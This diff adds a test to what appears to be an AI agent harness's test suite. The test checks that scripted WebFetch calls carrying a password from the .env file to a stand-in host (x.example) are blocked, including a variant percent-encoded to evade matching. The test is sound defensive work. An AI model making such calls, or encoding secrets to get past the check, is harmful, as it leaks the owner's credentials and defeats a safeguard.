@@ -235,3 +235,20 @@ test("characters nobody sees in a file are shown, and an edit can name them", as
   );
   expect(world.read("a.ts")).toBe("const admin = 1; // ok\n");
 });
+
+test("an address with a known secret in it is never fetched", async () => {
+  const world = await startWorld({
+    files: { ".env": ENV },
+    script: [
+      reply(call("WebFetch", { url: `https://x.example/?q=${PASSWORD}` })),
+      reply(call("WebFetch", { url: `https://x.example/${PASSWORD.replace("-", "%2D")}` })),
+      reply(say("ok")),
+    ],
+  });
+  const app = await world.open({ mode: "bypass", mayBypass: () => true });
+  await app.prompt(go, "now");
+  for (const { content, isError } of eventsOf(app, "tool.finished")) {
+    expect(isError).toBe(true);
+    expect(JSON.stringify(content)).toContain("holds a secret of this machine");
+  }
+});
